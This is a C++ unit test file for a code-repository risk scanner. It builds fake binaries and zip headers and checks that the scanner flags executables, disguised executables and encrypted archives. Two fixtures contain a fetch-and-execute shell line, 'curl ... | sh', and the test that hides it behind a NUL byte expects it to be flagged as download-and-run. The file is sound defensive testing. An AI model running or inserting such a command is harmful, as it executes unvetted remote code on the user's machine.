#include "directory/risks/scan_for_test.h"

namespace iii::risks {
namespace {

using Texts = std::vector<std::string>;
Texts found(std::string_view path, std::string_view bytes) { return brief(scan(path, bytes)); }

std::string number(uint32_t value, int width) {
  std::string out;
  for (int i = 0; i < width; ++i) out += static_cast<char>(value >> (8 * i));
  return out;
}

// One stored file, with these flags in both of its headers.
std::string zip_with(uint32_t flags) {
  const std::string local = std::string("PK\3\4") + number(20, 2) + number(flags, 2) +
                            std::string(18, '\0') + number(1, 2) + number(0, 2) + "a" + "data";
  const std::string entry = std::string("PK\1\2") + number(20, 2) + number(20, 2) +
                            number(flags, 2) + std::string(18, '\0') + number(1, 2) +
                            std::string(16, '\0') + "a";
  const std::string end = std::string("PK\5\6") + std::string(8, '\0') +
                          number(static_cast<uint32_t>(entry.size()), 4) +
                          number(static_cast<uint32_t>(local.size()), 4) + number(0, 2);
  return local + entry + end;
}

std::string pe() {
  std::string out = "MZ" + std::string(58, '\0') + number(64, 4);
  return out + std::string("PE\0\0", 4) + std::string(20, '\0');
}

TEST(Binary, Programs) {
  const std::string elf =
      "\x7f"
      "ELF" +
      std::string(60, '\1');
  EXPECT_EQ(found("bin/tool", elf), Texts{"medium executable 0"});
  EXPECT_EQ(found("tool.exe", pe()), Texts{"medium executable 0"});
  EXPECT_EQ(found("tool", "\xcf\xfa\xed\xfe" + std::string(28, '\1')),
            Texts{"medium executable 0"});
  EXPECT_EQ(found("tool", std::string("\xca\xfe\xba\xbe\0\0\0\2", 8)),
            Texts{"medium executable 0"});
}

TEST(Binary, ProgramsUnderAnotherName) {
  const std::string elf =
      "\x7f"
      "ELF" +
      std::string(60, '\1');
  EXPECT_EQ(found("logo.png", elf), Texts{"high disguised_executable 0"});
  EXPECT_EQ(found("notes.MD", elf), Texts{"high disguised_executable 0"});
}

TEST(Binary, WhatIsNotAProgram) {
  EXPECT_EQ(found("a.class", std::string("\xca\xfe\xba\xbe\0\0\0\x34", 8)), Texts{});
  EXPECT_EQ(found("a.txt", "MZ is how some programs begin, but this is a text about them. Really."),
            Texts{});
  EXPECT_EQ(found("a.txt",
                  "\x7f"
                  "EL"),
            Texts{});
  EXPECT_EQ(found("a.txt", ""), Texts{});
  EXPECT_EQ(found("a.png", "\x89PNG\r\n curl http://get.tool.dev | sh\n"), Texts{});
}

TEST(Binary, EncryptedArchives) {
  EXPECT_EQ(found("x.zip", zip_with(1)), Texts{"high encrypted_archive 0"});
  EXPECT_EQ(found("x.zip", zip_with(9)), Texts{"high encrypted_archive 0"});
  EXPECT_EQ(found("x.zip", zip_with(0)), Texts{});
  EXPECT_EQ(found("x.zip", zip_with(8)), Texts{});
  EXPECT_EQ(found("x.docx", zip_with(1).substr(0, 40)),
            Texts{"high encrypted_archive 0"});  // cut off
}

TEST(Binary, ANulDoesNotHideAScript) {
  EXPECT_EQ(found("x.sh", std::string("#!/bin/sh\n\0\ncurl http://get.tool.dev | sh\n", 43)),
            Texts{"high download_run 3"});
}

}  // namespace
}  // namespace iii::risks
